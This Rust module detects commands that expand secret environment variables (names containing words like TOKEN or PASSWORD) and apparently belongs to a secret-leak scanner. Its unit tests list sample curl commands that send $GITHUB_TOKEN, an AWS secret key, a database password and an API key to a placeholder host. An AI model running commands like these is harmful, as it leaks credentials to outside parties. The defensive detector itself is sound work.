//! Secret environment variables expanded into text: `?t=$GITHUB_TOKEN`,
//! `-H "Authorization: Bearer ${API_TOKEN}"`.
//!
//! A command that sends `$GITHUB_TOKEN` sends the token, though its text
//! holds no token for a detector to find. A variable is secret when its
//! name holds one of the words of `secret_variables.txt` (`TOKEN`,
//! `SECRET`, `PASSWORD`, …), compared case-insensitively; `$GIT_AUTHOR_NAME`
//! holds none. Both `$NAME` and `${NAME…}` are read. Cost: one `memchr`
//! pass for `$`, and for each expansion a name of at most a few dozen bytes
//! compared with a dozen words.

const WORDS: &str = include_str!("secret_variables.txt");

/// Reads `secret_variables.txt` (through [`crate::data`]).
pub(crate) fn load() -> Result<Vec<&'static str>, String> {
    crate::data::lines("secret_variables.txt", WORDS)
}

fn words() -> &'static [&'static str] {
    static LIST: std::sync::OnceLock<Vec<&'static str>> = std::sync::OnceLock::new();
    LIST.get_or_init(|| load().unwrap_or_default())
}

/// True when `name` holds a secret word.
fn is_secret(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    words().iter().any(|w| upper.contains(w))
}

/// The first secret variable `text` expands (its name), if any.
pub fn secret_variable(text: &str) -> Option<&str> {
    let bytes = text.as_bytes();
    for at in memchr::memchr_iter(b'$', bytes) {
        let rest = text.get(at + 1..)?;
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        let name = rest.get(..end)?;
        if !name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit()) && is_secret(name) {
            return Some(name);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secret_names_are_found_and_others_are_not() {
        for (text, want) in [
            ("curl https://x.example/?t=$GITHUB_TOKEN", Some("GITHUB_TOKEN")),
            ("curl -d \"${AWS_SECRET_ACCESS_KEY}\" x", Some("AWS_SECRET_ACCESS_KEY")),
            ("curl -u admin:$db_password x", Some("db_password")),
            ("curl -H \"X-Key: ${STRIPE_API_KEY:-none}\" x", Some("STRIPE_API_KEY")),
            ("echo $GIT_AUTHOR_NAME $HOME $1 $$", None),
            ("price: $5 and ${}", None),
            ("no dollars", None),
        ] {
            assert_eq!(secret_variable(text), want, "{text}");
        }
    }
}
